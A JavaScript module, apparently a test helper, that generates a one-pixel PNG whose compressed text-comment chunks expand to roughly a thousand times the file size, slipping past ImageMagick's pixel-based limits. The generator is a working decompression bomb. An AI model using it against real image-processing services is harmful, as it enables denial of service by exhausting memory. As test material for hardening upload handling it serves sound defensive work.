/**
 * A PNG of one pixel whose comments unpack to a thousand times the file's size. ImageMagick's own limits
 * (`-limit`, policy.xml) count pixels, and here there are none.
 */
import { deflateSync } from 'node:zlib'

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const GREY_8_BIT = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0])

/** `count` comments of `bytes` each, once unpacked; whoever reads it holds each of them twice. */
export function pngThatUnpacks({ count, bytes }) {
  const comment = deflateSync(Buffer.alloc(bytes, 'A'), { level: 9 })
  const comments = Array.from({ length: count }, (_, index) =>
    chunk('zTXt', Buffer.concat([Buffer.from(`comment ${index}\0\0`), comment])),
  )
  const pixel = deflateSync(Buffer.from([0, 0]))
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', GREY_8_BIT),
    ...comments,
    chunk('IDAT', pixel),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** https://www.w3.org/TR/png-3/#5Chunk-layout */
function chunk(type, data) {
  const body = Buffer.concat([Buffer.from(type), data])
  return Buffer.concat([u32(data.length), body, u32(crc32(body))])
}

function u32(value) {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

const CRC_TABLE = Array.from({ length: 256 }, (_, index) => {
  let value = index
  for (let bit = 0; bit < 8; bit++) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1
  return value
})

/** node:zlib has one only from 20.15 and 22.2 on, and it differs in nothing. */
function crc32(bytes) {
  let value = 0xffffffff
  for (const byte of bytes) value = CRC_TABLE[(value ^ byte) & 255] ^ (value >>> 8)
  return (value ^ 0xffffffff) >>> 0
}
